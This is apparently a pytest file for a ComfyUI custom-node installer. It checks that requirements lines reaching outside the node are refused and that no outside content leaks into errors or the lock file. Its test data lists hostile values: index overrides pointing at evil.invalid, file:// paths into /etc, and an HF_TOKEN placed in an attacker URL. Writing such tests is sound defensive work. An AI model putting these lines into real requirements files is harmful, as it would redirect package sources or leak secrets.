"""A custom node's requirements stay inside the node: no line may include a file outside it,
install a path outside it, change where packages come from for everyone, or read the
environment; such a node is refused (failed, or skipped with ON_CONFLICT=skip-node) naming
the line and why, and nothing outside the node is read, let alone echoed."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from config.nodes import CustomNodeSpec
from services.install.installer import Installer, InstallInputs
from services.install.lock import read_lock
from services.install.requirements import outside_problems
from tests.integration.test_installer import Steps, make_repo, wheels  # noqa: F401

CONTENT = "TOPSECRET-CONTENT-31415"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the node whose content must never be read or shown."""
    path = tmp_path / "elsewhere" / "outside.txt"
    path.parent.mkdir()
    path.write_text(f"{CONTENT}\n")
    return path


@pytest.fixture
def node(tmp_path: Path) -> Path:
    path = tmp_path / "custom_nodes" / "n"
    path.mkdir(parents=True)
    return path


def _problems(node: Path, text: str) -> list[str]:
    (node / "requirements.txt").write_text(text)
    problems, _ = outside_problems("n", node / "requirements.txt", node)
    return [str(p) for p in problems]


REFUSED = [
    ("-r {outside}", "outside the node"),
    ("-r ../../elsewhere/outside.txt", "outside the node"),
    ("-r{outside}", "outside the node"),
    ("--requirement={outside}", "outside the node"),
    ("-c {outside}", "outside the node"),
    ("--constraint ../../elsewhere/outside.txt", "outside the node"),
    ("-r https://example.invalid/r.txt", "remote file"),
    ("-r file://{outside}", "outside the node"),
    ("--index-url https://evil.invalid/simple", "--index-url changes where packages come from"),
    ("-i https://evil.invalid/simple", "-i changes"),
    ("--extra-index-url=https://evil.invalid/simple", "--extra-index-url changes"),
    ("-f /tmp", "-f changes"),
    ("--find-links https://evil.invalid/", "--find-links changes"),
    ("--trusted-host evil.invalid", "--trusted-host changes"),
    ("-e ../other", "relative path"),
    ("-e .", "relative path"),
    ("--editable=/etc", "outside the node"),
    ("./pkg", "relative path"),
    ("/etc/pkg.whl", "outside the node"),
    ("file:///etc/pkg.whl", "outside the node"),
    ("tiny @ file:///etc/tiny.whl", "outside the node"),
    ("tiny @ https://evil.invalid/${{HF_TOKEN}}/tiny.whl", "environment variable"),
    ("-r \\\n{outside}", "outside the node"),
]


@pytest.mark.parametrize(("line", "why"), REFUSED)
def test_lines_reaching_outside_are_refused(
    node: Path, outside: Path, line: str, why: str
) -> None:
    text = line.format(outside=outside)
    problems = _problems(node, f"tiny\n{text}\n")
    assert len(problems) == 1, problems
    assert problems[0].startswith("n: requirements.txt line 2="), problems
    assert why in problems[0], problems
    assert CONTENT not in problems[0]


@pytest.mark.parametrize("line", [
    "tiny",
    "tiny==1.0 ; python_version >= '3'",
    "tiny --hash=sha256:abcd",
    "--pre",
    "git+https://github.com/o/r@v1#egg=r",
    "-e git+https://github.com/o/r#egg=r",
    "https://files.example/tiny-1.0-py3-none-any.whl",
    "-r sub.txt",
    "-e {node}/vendor",
    "# -r /etc/passwd",
    "tiny  # -r /etc/passwd",
])
def test_lines_inside_the_node_pass(node: Path, line: str) -> None:
    (node / "sub.txt").write_text("tiny\n")
    assert _problems(node, line.format(node=node) + "\n") == []


def test_included_files_are_checked_too(node: Path, outside: Path) -> None:
    (node / "sub").mkdir()
    (node / "sub" / "more.txt").write_text(f"tiny\n-r {outside}\n")
    problems = _problems(node, "-r sub/more.txt\n")
    assert problems == [f"n: sub/more.txt line 2=-r {outside}: includes a file outside the node; "
                        "a node may include only its own files"]
    _, includes = outside_problems("n", node / "requirements.txt", node)
    assert includes == [node / "sub" / "more.txt"]


def test_links_out_of_the_node_are_not_followed(node: Path, outside: Path) -> None:
    (node / "requirements.txt").symlink_to(outside)
    problems, _ = outside_problems("n", node / "requirements.txt", node)
    assert len(problems) == 1 and "link to a file outside the node" in str(problems[0])
    assert CONTENT not in str(problems[0])
    (node / "requirements.txt").unlink()
    (node / "inner.txt").symlink_to(outside)
    problems = _problems(node, "-r inner.txt\n")
    assert len(problems) == 1 and "outside the node" in problems[0] and CONTENT not in problems[0]


def test_include_cycles_end(node: Path) -> None:
    (node / "a.txt").write_text("-r requirements.txt\ntiny\n")
    assert _problems(node, "-r a.txt\n") == []


# -- the installer ------------------------------------------------------------------------------


def _inputs(tmp_path: Path, outside: Path, on_conflict: str) -> InstallInputs:
    comfyui = make_repo(tmp_path / "src" / "ComfyUI", {"main.py": "", "requirements.txt": "tiny\n"})
    good = make_repo(tmp_path / "src" / "good", {"__init__.py": "", "requirements.txt": "tiny\n"})
    reaching = make_repo(
        tmp_path / "src" / "reaching",
        {"__init__.py": "", "requirements.txt": f"tiny\n-r {outside}\n"},
    )
    ws = tmp_path / "ws"
    return InstallInputs(
        comfyui_url=comfyui,
        comfyui_ref="HEAD",
        install_path=ws / "ComfyUI",
        nodes=(
            CustomNodeSpec("good", good, "HEAD", False, True, "test"),
            CustomNodeSpec("reaching", reaching, "HEAD", False, True, "test"),
        ),
        python=ws / "venv" / "bin" / "python",
        venv=ws / "venv",
        base_python=sys.executable,
        protected=(),
        on_conflict=on_conflict,
        install_py_timeout=30,
        workers=2,
        workspace=ws,
        min_free_bytes=0,
    )


@pytest.mark.parametrize(("on_conflict", "status"), [("skip-node", "skipped"), ("fail", "failed")])
def test_installer_refuses_the_node_and_installs_the_rest(
    tmp_path: Path, outside: Path, wheels: Path, on_conflict: str, status: str  # noqa: F811
) -> None:
    """Before: `-r /some/file` made uv read that file and its content appear in the node's
    error in health. Now the node is refused before anything reads the file."""
    steps = Steps()
    report = Installer(_inputs(tmp_path, outside, on_conflict), steps).run()
    nodes = {n.name: n for n in report.nodes}
    assert nodes["good"].status == "ok"
    refused = nodes["reaching"]
    assert refused.status == status
    assert refused.error == (
        f"requirements refused: reaching: requirements.txt line 2=-r {outside}: includes a file "
        "outside the node; a node may include only its own files"
    )
    custom_nodes = tmp_path / "ws" / "ComfyUI" / "custom_nodes"
    assert (custom_nodes / ".disabled" / "reaching").is_dir() == (status == "skipped")
    shown = repr(steps.final) + repr(report) + (tmp_path / "ws" / "comfy-machine.lock").read_text()
    assert CONTENT not in shown
    lock = read_lock(tmp_path / "ws" / "comfy-machine.lock")
    assert lock is not None and lock.nodes["reaching"].status == status
